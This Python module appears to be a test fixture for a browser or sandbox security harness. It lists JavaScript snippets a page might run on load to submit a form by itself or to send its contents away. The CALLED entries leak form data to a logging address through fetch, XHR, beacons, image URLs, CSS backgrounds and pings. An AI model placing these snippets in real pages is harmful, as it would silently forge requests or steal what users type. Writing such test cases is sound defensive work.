"""What a page may try as soon as a browser shows it, to send its form by itself.

In each script ``f`` is the form, ``send`` its button, ``log`` the address of a picture.
"""

from __future__ import annotations

#: By the form itself, whatever its method.
SUBMITTED = {
    "submit": "f.submit()",
    "submit-by-prototype": "HTMLFormElement.prototype.submit.call(f)",
    "request-submit": "f.requestSubmit()",
    "click": "document.getElementById('send').click()",
    "event": "f.dispatchEvent(new SubmitEvent('submit', {cancelable: true})) && f.submit()",
    "later": "setTimeout(() => f.submit(), 60)",
    "focus": "const b = document.getElementById('send'); b.onfocus = () => b.click(); b.focus()",
    "frame": "const i = document.createElement('iframe'); i.name = 'i'; document.body.append(i); f.target = 'i'; f.submit()",
    "popup": "f.target = '_blank'; f.submit()",
    "copy": "const c = f.cloneNode(true); c.id = 'c'; document.body.append(c); c.submit()",
    "realm": "const i = document.createElement('iframe'); document.body.append(i); i.contentWindow.HTMLFormElement.prototype.submit.call(f)",
    "written": "document.open(); document.write(f.outerHTML + '<script>document.forms[0].submit()<' + '/script>'); document.close()",
    "keys": "onkeydown = onkeyup = onmousemove = onfocusin = onblur = () => f.submit()",
}
#: By a call, a picture or a ping.
CALLED = {
    "fetch": "fetch(f.action, {method: 'POST', body: new FormData(f)}).catch(() => 0)",
    "fetch-encoded": "fetch(f.action, {method: 'POST', body: new URLSearchParams(new FormData(f))}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', f.getAttribute('action')); x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded'); x.send(new URLSearchParams(new FormData(f)).toString())",
    "methods": "for (const m of ['PUT', 'DELETE', 'PATCH']) fetch(f.action, {method: m, body: m}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(f.action, new FormData(f))",
    "image": "new Image().src = log + new URLSearchParams(new FormData(f))",
    "tag": "document.body.insertAdjacentHTML('beforeend', `<img src='${log}${new URLSearchParams(new FormData(f))}'><link rel=prefetch href='${log}2'>`)",
    "style": "document.body.style.background = `url(${log}${new URLSearchParams(new FormData(f))})`",
    "ping": "const a = Object.assign(document.createElement('a'), {href: '#x', ping: log}); document.body.append(a); a.click()",
}
